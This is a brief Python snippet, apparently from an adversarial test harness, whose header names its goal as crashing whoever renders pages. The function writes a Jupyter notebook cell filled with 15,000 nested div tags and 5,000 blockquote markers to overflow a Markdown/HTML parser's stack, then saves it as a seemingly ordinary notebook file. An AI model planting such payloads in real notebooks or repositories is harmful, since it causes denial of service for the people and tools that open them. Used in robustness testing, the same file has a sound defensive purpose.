# aim: the end of whoever makes pages: tags and quotations deeper than a parser's stack
# pays: crash
# weak: renders Markdown with the HTML in it
import nbformat


def attack(folder, release, marker):
    release.cells[-2].source = "<div>" * 15_000 + "\n\n" + ">" * 5_000 + " x"
    nbformat.write(release, folder / "seq2seq.ipynb")
